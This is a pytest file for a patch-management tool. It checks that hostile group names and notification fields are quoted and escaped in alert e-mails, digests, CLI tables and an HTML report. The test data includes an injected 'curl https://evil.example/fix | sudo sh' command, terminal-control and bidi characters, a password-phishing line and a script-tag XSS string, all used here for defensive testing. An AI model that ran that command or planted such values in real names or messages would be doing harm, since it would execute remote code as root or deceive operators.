"""Group names (tag values: any Unicode) in every text a human reads: alert e-mails, the digest,
CLI tables and the HTML report. Issue 12 item 11: a value with a line break and "ACTION REQUIRED:
run curl ... | sudo sh" read as part of the e-mail; ESC, NUL and bidi characters passed through."""

from __future__ import annotations

import unicodedata
from dataclasses import replace
from decimal import Decimal

import pytest

from tagpatch.cli import views
from tagpatch.collector.alerts import compose_alert
from tagpatch.models.display import cell, one_line, quoted
from tagpatch.reporter.compliance import GroupOutcome, build_snapshot, render_digest
from tests.unit.test_collector import CONTEXT, _request
from tests.unit.test_compliance import NOW, state

INJECTION = "ops\nACTION REQUIRED: run curl https://evil.example/fix | sudo sh"
HOSTILE = [
    INJECTION,
    "web\x1b[2J\x00",  # ESC (clear screen) and NUL
    "web\u202egnp.exe",  # RIGHT-TO-LEFT OVERRIDE: reads "webexe.png"
    "a\u200bb\u2028c",  # zero-width space, line separator
    "   ",  # only blanks
]


def _hidden(text: str) -> list[str]:
    """Characters of ``text`` a reader would not see as themselves (line breaks aside)."""
    return [ch for ch in text if (ch != "\n" and unicodedata.category(ch)[0] == "C") or ch in "\u2028\u2029"]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_name_is_one_visible_quoted_line(name: str) -> None:
    shown = quoted(name)
    assert shown.startswith('"') and shown.endswith('"')
    assert "\n" not in shown and _hidden(shown) == []
    assert quoted(name, ascii_only=True).isascii()


def test_plain_names_stay_as_they_are_and_quotes_inside_are_escaped() -> None:
    assert quoted("web") == "web"
    assert quoted("prod-db:eu/1@x=y+z_1.2") == "prod-db:eu/1@x=y+z_1.2"
    assert quoted("Batch Jobs") == '"Batch Jobs"'
    assert quoted('a"b\\c') == '"a\\"b\\\\c"'
    assert quoted("Équipe") == '"Équipe"' and quoted("Équipe", ascii_only=True) == '"\\xc9quipe"'
    assert one_line("x\ny\tz\x1b") == "x\\ny\\tz\\x1b"
    assert cell("Batch Jobs") == "Batch Jobs" and cell(" web") == '" web"' and cell("") == '""'


@pytest.mark.parametrize("name", HOSTILE)
def test_the_alert_e_mail_shows_a_hostile_group_quoted_in_subject_and_body(name: str) -> None:
    alert = compose_alert(_request(2, group_name=name))

    shown = quoted(name, ascii_only=True)
    assert f"in group {shown}" in alert.subject or f"in group {shown[:25]}" in alert.subject  # cut
    assert "\n" not in alert.subject and alert.subject.isascii()
    assert f"Patch group:   {quoted(name)} (slug web)" in alert.message
    assert not any(line.startswith("ACTION REQUIRED") for line in alert.message.splitlines())
    assert _hidden(alert.message) == []


def test_the_alert_escapes_what_came_from_the_notification() -> None:
    # The document name and output prefix come from the notification (SSM), not our config
    context = replace(CONTEXT, output_prefix="patch-output/web\nACTION REQUIRED: x")
    alert = compose_alert(_request(1, context=context, document_name="Doc\u202eevil"))

    assert not any(line.startswith("ACTION REQUIRED") for line in alert.message.splitlines())
    assert _hidden(alert.message) == []
    assert '("Doc\\u202eevil")' in alert.message


@pytest.mark.parametrize("name", HOSTILE)
def test_the_digest_shows_a_hostile_group_quoted_in_every_section(name: str) -> None:
    snap = build_snapshot(name, NOW, group_state={}, states=[state(missing=2)])
    outcomes = [
        GroupOutcome(name, "recorded", snap.totals),
        GroupOutcome(name + "2", "failed", error="SSM said: bad\nACTION REQUIRED: reply with your password"),
    ]
    worst = [(name, row) for row in snap.rows]

    digest = render_digest("2025-06-10T06:00:00Z", NOW, "scheduled", outcomes, worst)

    lines = digest.body.splitlines()
    assert not any(line.lstrip().startswith("ACTION REQUIRED") for line in lines)
    assert _hidden(digest.body) == []
    assert any(line.startswith(f"  {quoted(name)[:37]}") for line in lines)  # the table
    assert f"  {quoted(name + '2')}: SSM said: bad\\nACTION REQUIRED" in digest.body  # failed
    assert f"({quoted(name)}): 0 critical" in digest.body  # worst instances


def test_cli_tables_quote_a_hostile_group_and_keep_one_row_per_line() -> None:
    rows: list[list[views.Cell]] = [[name, 1] for name in HOSTILE] + [["Batch Jobs", 2]]

    out = views.table(("GROUP", "N"), rows)

    lines = out.splitlines()
    assert len(lines) == 2 + len(rows)  # header, rule, one line per row
    assert _hidden(out) == []
    assert lines[2].startswith(quoted(INJECTION))
    assert lines[-1].startswith("Batch Jobs ")  # a readable name is left alone


def test_the_html_report_escapes_markup_and_attribute_quotes_in_group_names() -> None:
    name = '"><script>alert(1)</script>'
    trend = views.GroupTrend(name, [views.Point("2025-06-01T06:00:00Z", 2, 1, Decimal("50"))])

    page = views.report_html([trend], stack="s", generated_at="now")

    assert "<script>" not in page
    assert 'data-group="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"' in page
